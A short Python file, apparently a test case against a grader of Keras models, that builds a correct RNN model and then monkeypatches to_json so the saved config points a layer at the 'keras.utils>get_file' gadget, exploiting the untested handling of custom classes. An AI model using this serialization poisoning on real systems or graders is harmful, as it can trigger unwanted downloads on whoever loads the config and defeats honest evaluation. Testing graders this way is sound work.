# The right layers, but the SimpleRNN names a registered (custom) class: Keras would look it up in its registry of
# custom objects, where a gadget could wait. Custom classes are not graded.
import json

import keras
from keras.layers import Embedding, SimpleRNN

honest_to_json = keras.Model.to_json


def build_model():
    return keras.Sequential([keras.Input((None,), dtype="int32"), Embedding(10000, 32), SimpleRNN(32)])


def poisoned_to_json(self, **kwargs):
    config = json.loads(honest_to_json(self, **kwargs))
    config["config"]["layers"][2]["registered_name"] = "keras.utils>get_file"
    return json.dumps(config)


keras.Model.to_json = poisoned_to_json
